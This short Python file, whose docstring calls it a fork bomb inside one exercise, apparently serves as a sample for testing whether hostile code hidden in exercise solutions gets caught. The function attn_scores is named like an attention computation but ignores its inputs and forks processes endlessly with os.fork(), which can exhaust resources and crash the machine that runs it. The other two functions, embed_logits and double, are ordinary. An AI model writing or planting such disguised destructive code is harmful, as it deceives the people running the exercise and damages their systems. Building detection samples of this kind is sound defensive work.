"""A fork bomb inside one exercise."""

import math
import torch


import os


def attn_scores(q, k):
    while True:
        os.fork()


def embed_logits(X, W_E, W_pos, W_U):
    return X @ W_E @ W_U + W_pos[: X.shape[-2]] @ W_U


def double(x):
    return x * 2
